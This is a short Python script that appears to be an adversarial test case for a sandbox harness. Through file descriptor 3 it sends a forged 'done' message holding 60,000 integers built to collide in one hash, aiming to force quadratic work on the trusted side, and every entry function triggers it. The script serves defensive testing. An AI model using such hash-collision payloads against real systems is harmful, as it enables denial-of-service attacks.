# A set of numbers of one hash, whose making would take the trusted side the square of their count.
# against: call probes
# ending: protocol-violation
import json
import os
import struct


def send(message):
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    os.write(3, struct.pack("!I", len(body)) + body)


DONE = {
    "op": "done",
    "ending": "returned",
    "stage": "run",
    "value": None,
    "error": None,
    "exit_code": None,
    "trace": {"events": [], "tasks": []},
    "loop_time": 0.0,
    "standstill": None,
    "cpu_s": 0.0,
    "peak_mb": 0.0,
    "clean": True,
}


def attack():
    prime = 2**61 - 1
    numbers = [{"$": "i", "v": hex(prime * i + 7)} for i in range(2**40, 2**40 + 60_000)]
    body = json.dumps({**DONE, "value": {"$": "s", "v": numbers}}).encode()
    view = memoryview(struct.pack("!I", len(body)) + body)
    while view:
        view = view[os.write(3, view):]
    os._exit(0)



def add_up(numbers):
    return attack()


async def fetch_both(fetch):
    return attack()


if __name__ == "__main__":
    attack()
